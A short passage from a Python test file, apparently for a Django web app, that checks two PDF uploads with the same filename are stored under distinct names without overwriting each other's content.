    assert not changed_tables(before, row_counts())


def test_two_uploads_of_the_same_name_never_overwrite_each_other(gs, paper, media):
    first = minimal_pdf("First")
    second = minimal_pdf("Second")
    assert upload(gs, paper, filename="report.pdf", content=first).status_code == 302
    assert upload(gs, paper, filename="report.pdf", content=second).status_code == 302
    stored = Document.objects.filter(paper=paper).order_by("pk")
    names = [d.file.name for d in stored]
    assert len(set(names)) == 2 and all(STORED_NAME.match(n) for n in names)
    assert [d.file.open("rb").read() for d in stored] == [first, second]
